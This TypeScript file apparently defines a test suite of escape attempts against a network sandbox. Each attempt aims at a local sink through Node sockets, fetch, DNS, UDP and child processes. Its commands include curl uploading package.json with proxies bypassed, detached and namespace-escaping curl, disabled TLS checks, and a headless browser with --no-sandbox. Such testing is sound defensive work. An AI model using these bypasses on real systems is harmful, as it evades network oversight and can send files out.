import { spawnSync } from 'node:child_process';
import dgram from 'node:dgram';
import { Resolver } from 'node:dns/promises';
import { once } from 'node:events';
import http from 'node:http';
import http2 from 'node:http2';
import https from 'node:https';
import net from 'node:net';
import { tmpdir } from 'node:os';
import tls from 'node:tls';
import { fetch as undiciFetch } from 'undici';
import type { Attack } from '../attack.ts';

const attack = (id: string, attempt: Attack['attempt']): Attack => ({
  id,
  by: 'seal',
  isOver: true,
  attempt,
});
const post = { method: 'POST', rejectUnauthorized: false } as const;

async function sent(request: http.ClientRequest): Promise<void> {
  request.end('x');
  await once(request, 'response');
}

async function written(socket: net.Socket, text: string): Promise<void> {
  socket.write(text);
  await once(socket, 'data').finally(() => socket.destroy());
}

/** A shell's way: `$` stands for the address. */
const command = (id: string, program: string, ...parameters: string[]): Attack =>
  attack(id, ({ url }) => {
    spawnSync(
      program,
      parameters.map((parameter) => parameter.replace('$', url)),
      { timeout: 5_000, env: {} },
    );
    return Promise.resolve();
  });

const request = `require('https').request('$',{method:'POST',rejectUnauthorized:false}).on('error',()=>{}).end()`;

/** Node's own sockets and child processes: no proxy is asked, and no guard. */
export const nodeAttacks: readonly Attack[] = [
  attack('node-http', ({ sink, mark }) =>
    sent(http.request(`http://127.0.0.1:${sink.ports.http}/${mark}`, post)),
  ),
  attack('node-https', ({ url }) => sent(https.request(url, post))),
  attack('node-https-no-agent', ({ url }) => sent(https.request(url, { ...post, agent: false }))),
  attack('node-fetch', ({ sink, mark }) =>
    fetch(`http://127.0.0.1:${sink.ports.http}/${mark}`, { method: 'POST' }),
  ),
  attack('undici-fetch', ({ sink, mark }) =>
    undiciFetch(`http://127.0.0.1:${sink.ports.http}/${mark}`, { method: 'POST' }),
  ),
  attack('node-http2', async ({ origin, mark }) => {
    const session = http2.connect(origin, { rejectUnauthorized: false });
    session.on('error', () => undefined);
    const stream = session.request({ ':method': 'POST', ':path': `/write/${mark}` });
    stream.end('x');
    await once(stream, 'response').finally(() => session.destroy());
  }),
  attack('node-web-socket', async ({ sink, mark }) =>
    once(
      new WebSocket(`ws://127.0.0.1:${sink.ports.http}/${mark}`) as unknown as NodeJS.EventEmitter,
      'error',
    ),
  ),
  attack('node-net', ({ sink, mark }) => written(net.connect(sink.ports.tcp, '127.0.0.1'), mark)),
  attack('node-net-to-other-address', ({ sink, mark }) =>
    written(net.connect(sink.ports.tcpElsewhere, '127.0.0.2'), mark),
  ),
  attack('node-tls', ({ origin, mark }) => {
    const socket = tls.connect({
      host: '127.0.0.1',
      port: Number(new URL(origin).port),
      rejectUnauthorized: false,
    });
    return written(socket, `POST /write/${mark} HTTP/1.1\r\nhost: localhost\r\ncontent-length: 0\r\n\r\n`);
  }),
  attack('node-udp', async ({ sink, mark }) => {
    const socket = dgram.createSocket('udp4');
    await new Promise((resolve) => socket.send(mark, sink.ports.udp, '127.0.0.1', resolve));
    socket.close();
  }),
  attack('node-dns', ({ sink, mark }) => {
    const resolver = new Resolver({ timeout: 500, tries: 1 });
    resolver.setServers([`127.0.0.1:${sink.ports.udp}`]);
    return resolver.resolve4(`${mark}.test`);
  }),
  command('curl', 'curl', '-sk', '-X', 'POST', '$'),
  command('curl-past-proxies', 'curl', '-sk', '--noproxy', '*', '-T', 'package.json', '$'),
  command('child-shell', '/bin/sh', '-c', 'curl -sk -d x $'),
  attack('child-node', ({ url }) => {
    spawnSync(process.execPath, ['-e', request.replace('$', url)], { timeout: 5_000, env: {} });
    return Promise.resolve();
  }),
  attack('child-browser', ({ url, run }) => {
    const flags = ['--headless', '--no-sandbox', '--ignore-certificate-errors', '--dump-dom'];
    const env = { PATH: '/usr/bin:/bin', HOME: tmpdir() };
    spawnSync(run.browser ?? '', [...flags, url], { timeout: 5_000, env });
    return Promise.resolve();
  }),
  {
    id: 'child-detached',
    by: 'seal',
    attempt: ({ url }) => {
      spawnSync('/bin/sh', ['-c', `setsid curl -sk -d x '${url}' &`], { timeout: 5_000, env: {} });
      return Promise.resolve();
    },
  },
  attack('proxy-variables', ({ url }) => {
    const env = { NO_PROXY: '*', no_proxy: '*', NODE_TLS_REJECT_UNAUTHORIZED: '0', PATH: '/usr/bin:/bin' };
    spawnSync(process.execPath, ['-e', request.replace('$', url)], { timeout: 5_000, env });
    return Promise.resolve();
  }),
  attack('new-namespace', ({ url }) => {
    spawnSync('/bin/sh', ['-c', `unshare -Ur curl -sk -d x '${url}' || curl -sk -d x '${url}'`], {
      timeout: 5_000,
    });
    return Promise.resolve();
  }),
];
